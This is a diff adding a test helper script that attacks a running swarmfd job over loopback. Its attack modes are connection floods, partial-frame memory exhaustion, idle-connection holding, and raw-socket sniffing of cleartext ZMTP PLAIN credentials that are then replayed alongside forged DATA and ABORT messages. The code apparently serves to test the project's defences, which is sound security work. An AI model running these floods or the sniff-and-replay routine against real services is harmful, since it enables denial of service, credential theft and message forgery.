@@ -1,0 +1,321 @@
+"""A stranger without the job secret, attacking a running swarmfd job (tests/test_front_door.py).
+
+Run as its own process (``python -m tests.attacker MODE ...``), so its CPU and
+descriptors are its own, and the test can stop it at any time. It prints one JSON
+line of counters when it ends (SIGTERM or its duration). Modes:
+
+* ``flood PIDS``: find every TCP port the given processes listen on (except
+  ``--skip`` ports) as soon as it appears (polling /proc every millisecond), open
+  ``--silent`` connections to it at once and keep them silent, then open and drop
+  ``--rate`` new silent connections a second.
+* ``junk PORT``: open ``--count`` connections to PORT, each sending a ZMTP greeting
+  and the start of one frame that announces ``--frame`` bytes, then ``--frame``
+  bytes of junk, and hold them open (libzmq reads a frame before it can authenticate).
+* ``silent PORT``: open ``--count`` silent connections to PORT and hold them.
+* ``sniff-replay``: read loopback traffic (a raw AF_PACKET socket, root only), pick up
+  every ZMTP PLAIN HELLO (user name and password in clear), and replay each one on a
+  new connection to the port it went to, then send forged DATA and ABORT messages.
+
+Every socket is closed when it ends. Nothing here is swarmfd code: it speaks the bytes.
+"""
+
+from __future__ import annotations
+
+import argparse
+import contextlib
+import json
+import os
+import resource
+import signal
+import socket
+import struct
+import sys
+import threading
+import time
+from typing import Any
+
+
+def greeting(mechanism: str) -> bytes:
+    """A ZMTP 3.0 greeting offering ``mechanism`` as a client (64 bytes)."""
+    return (b"\xff" + b"\0" * 8 + b"\x7f" + b"\x03\x00" + mechanism.encode().ljust(20, b"\0")
+            + b"\0" + b"\0" * 31)
+
+
+def _raise_fd_limit() -> None:
+    _soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
+
+
+def listening_ports(pid: int) -> set[int]:
+    """TCP ports (IPv4) that process ``pid`` listens on, from /proc (inode matching)."""
+    inodes = set()
+    try:
+        for fd in os.listdir(f"/proc/{pid}/fd"):
+            with contextlib.suppress(OSError):
+                target = os.readlink(f"/proc/{pid}/fd/{fd}")
+                if target.startswith("socket:["):
+                    inodes.add(target[8:-1])
+        with open(f"/proc/{pid}/net/tcp") as f:
+            lines = f.read().splitlines()[1:]
+    except OSError:
+        return set()
+    ports = set()
+    for line in lines:
+        parts = line.split()
+        if len(parts) > 9 and parts[3] == "0A" and parts[9] in inodes:  # 0A: LISTEN
+            ports.add(int(parts[1].rsplit(":", 1)[1], 16))
+    return ports
+
+
+def _connect(port: int, host: str = "127.0.0.1") -> socket.socket | None:
+    s = socket.socket()
+    s.setblocking(False)
+    try:
+        s.connect((host, port))
+    except BlockingIOError:
+        pass
+    except OSError:
+        s.close()
+        return None
+    return s
+
+
+class Counters(dict[str, Any]):
+    def bump(self, key: str, n: int = 1) -> None:
+        self[key] = self.get(key, 0) + n
+
+
+def flood(pids: list[int], skip: set[int], silent: int, rate: float, duration: float,
+          out: Counters, stop: threading.Event) -> None:
+    held: list[socket.socket] = []
+    seen: dict[int, float] = {}
+    churn: list[socket.socket] = []
+    end = time.monotonic() + duration
+    next_new = time.monotonic()
+    try:
+        while not stop.is_set() and time.monotonic() < end:
+            for pid in pids:
+                for port in listening_ports(pid) - skip - set(seen):
+                    seen[port] = time.monotonic()
+                    for _ in range(silent):
+                        s = _connect(port)
+                        if s is not None:
+                            held.append(s)
+                            out.bump("silent")
+            now = time.monotonic()
+            while seen and rate > 0 and next_new <= now:
+                for port in seen:
+                    s = _connect(port)
+                    if s is not None:
+                        churn.append(s)
+                        out.bump("churn")
+                next_new += 1.0 / rate
+            while len(churn) > 200:
+                churn.pop(0).close()
+            time.sleep(0.001)
+    finally:
+        out["ports"] = sorted(seen)
+        for s in held + churn:
+            s.close()
+
+
+def hold(port: int, count: int, payload: bytes, duration: float, out: Counters,
+         stop: threading.Event) -> None:
+    """Open ``count`` connections and send each all of ``payload`` (as far as the target
+    takes it) within 10 s, then hold them. Counts: ``established`` (the target accepted;
+    it may have dropped them since: ``dropped``), ``bytes_sent``."""
+    socks: list[socket.socket] = []
+    try:
+        for _ in range(count):
+            s = _connect(port)
+            if s is not None:
+                socks.append(s)
+        deadline = time.monotonic() + 10
+        left = {i: memoryview(payload) for i in range(len(socks))}
+        established: set[int] = set()
+        dropped = total = 0
+        while left and time.monotonic() < deadline:
+            for i in list(left):
+                s = socks[i]
+                if i not in established:
+                    if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
+                        del left[i]  # refused
+                        continue
+                    try:
+                        s.getpeername()
+                    except OSError:
+                        continue  # still connecting
+                    established.add(i)
+                try:
+                    n = s.send(left[i]) if len(left[i]) else 0
+                except BlockingIOError:
+                    continue
+                except OSError:
+                    dropped += 1  # the target dropped it
+                    del left[i]
+                    continue
+                total += n
+                left[i] = left[i][n:]
+                if not len(left[i]):
+                    del left[i]
+            time.sleep(0.002)
+        out["established"] = len(established)
+        out["dropped"] = dropped
+        out["bytes_sent"] = total
+        print(json.dumps({"ready": True}), flush=True)
+        end = time.monotonic() + duration
+        while not stop.is_set() and time.monotonic() < end:
+            time.sleep(0.02)
+    finally:
+        for s in socks:
+            s.close()
+
+
+def junk_payload(frame: int, mechanism: str) -> bytes:
+    """A greeting, then one long frame (flags 0x02: 8-byte size) announcing ``frame`` bytes
+    and all of them but the last: the target holds the partial frame."""
+    return greeting(mechanism) + b"\x02" + struct.pack(">Q", frame) + os.urandom(frame - 1)
+
+
+# -- sniffing ----------------------------------------------------------------------------
+
+
+def _tcp_payloads(raw: socket.socket) -> Any:
+    """Yield (dst_port, payload) of TCP segments seen on the loopback interface."""
+    while True:
+        try:
+            frame = raw.recv(65535)
+        except TimeoutError:
+            yield None
+            continue
+        if len(frame) < 14 + 20 or frame[12:14] != b"\x08\x00":
+            continue
+        ip = frame[14:]
+        ihl = (ip[0] & 0x0F) * 4
+        if ip[9] != 6:
+            continue
+        tcp = ip[ihl:]
+        dst = struct.unpack(">H", tcp[2:4])[0]
+        off = (tcp[12] >> 4) * 4
+        data = tcp[off:]
+        if data:
+            yield dst, bytes(data)
+
+
+def _plain_hellos(data: bytes) -> list[tuple[bytes, bytes]]:
+    """ZMTP PLAIN HELLO commands in a TCP payload: [(username, password)]."""
+    found = []
+    at = data.find(b"\x05HELLO")
+    while at >= 0:
+        body = data[at + 6:]
+        if body:
+            ulen = body[0]
+            user = body[1:1 + ulen]
+            if len(body) > 1 + ulen:
+                plen = body[1 + ulen]
+                pw = body[2 + ulen:2 + ulen + plen]
+                if len(pw) == plen:
+                    found.append((user, pw))
+        at = data.find(b"\x05HELLO", at + 1)
+    return found
+
+
+def sniff_replay(duration: float, out: Counters, stop: threading.Event,
+                 forged: list[list[bytes]]) -> None:
+    import zmq
+
+    raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
+    raw.bind(("lo", 0))
+    raw.settimeout(0.05)
+    ctx = zmq.Context()
+    socks: list[Any] = []
+    seen: set[tuple[int, bytes, bytes]] = set()
+    print(json.dumps({"ready": True}), flush=True)
+    end = time.monotonic() + duration
+    try:
+        for item in _tcp_payloads(raw):
+            if stop.is_set() or time.monotonic() > end:
+                break
+            if item is not None:
+                port, data = item
+                for user, pw in _plain_hellos(data):
+                    if (port, user, pw) in seen:
+                        continue
+                    seen.add((port, user, pw))
+                    out.bump("tokens_sniffed")
+                    for kind in (zmq.DEALER, zmq.PUSH):
+                        s = ctx.socket(kind)
+                        s.setsockopt(zmq.LINGER, 0)
+                        try:
+                            s.setsockopt(zmq.PLAIN_USERNAME, user)
+                            s.setsockopt(zmq.PLAIN_PASSWORD, pw)
+                        except zmq.ZMQError:  # not a real HELLO after all
+                            s.close()
+                            continue
+                        s.connect(f"tcp://127.0.0.1:{port}")
+                        socks.append(s)
+                        out.bump("replays")
+            for s in socks:
+                for frames in forged:
+                    with contextlib.suppress(zmq.ZMQError):
+                        s.send_multipart(frames, zmq.NOBLOCK)
+                        out.bump("forged_sent")
+    finally:
+        for s in socks:
+            s.close(linger=0)
+        ctx.term()
+        raw.close()
+
+
+def _forged_messages() -> list[list[bytes]]:
+    """A DATA message claiming rank 1 for the first all_reduce of 8 int64s, and an ABORT."""
+    sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
+    from swarmfd import wire
+
+    sig = wire.Signature(wire.Collective.ALL_REDUCE, wire.ReduceOp.SUM, 4, wire.NO_ROOT, 8,
+                         wire.shape_hash((8,)))
+    out = []
+    for seq in range(1, 64):
+        out.append([wire.pack_header(wire.Kind.DATA, sig, 1, seq, 0, 64, wire.FLAG_INLINE)
+                    + struct.pack("<8q", *([1000] * 8))])
+    body = b'{"kind": "error", "rank": 1, "message": "forged by a stranger"}'
+    out.append([wire.pack_header(wire.Kind.ABORT, wire.Signature(wire.Collective.NONE), 1, 0,
+                                 0, len(body), wire.FLAG_INLINE) + body])
+    return out
+
+
+def main(argv: list[str] | None = None) -> int:
+    p = argparse.ArgumentParser()
+    p.add_argument("mode", choices=["flood", "junk", "silent", "sniff-replay"])
+    p.add_argument("targets", nargs="*", type=int)
+    p.add_argument("--skip", type=int, action="append", default=[])
+    p.add_argument("--silent", type=int, default=100)
+    p.add_argument("--rate", type=float, default=0.0)
+    p.add_argument("--count", type=int, default=300)
+    p.add_argument("--frame", type=int, default=(1 << 20) - 64)
+    p.add_argument("--mechanism", default="CURVE")
+    p.add_argument("--duration", type=float, default=30.0)
+    args = p.parse_args(argv)
+    _raise_fd_limit()
+    stop = threading.Event()
+    signal.signal(signal.SIGTERM, lambda *_: stop.set())
+    out = Counters()
+    try:
+        if args.mode == "flood":
+            flood(args.targets, set(args.skip), args.silent, args.rate, args.duration, out,
+                  stop)
+        elif args.mode == "junk":
+            hold(args.targets[0], args.count, junk_payload(args.frame, args.mechanism),
+                 args.duration, out,
+                 stop)
+        elif args.mode == "silent":
+            hold(args.targets[0], args.count, b"", args.duration, out, stop)
+        else:
+            sniff_replay(args.duration, out, stop, _forged_messages())
+    finally:
+        print(json.dumps(out), flush=True)
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
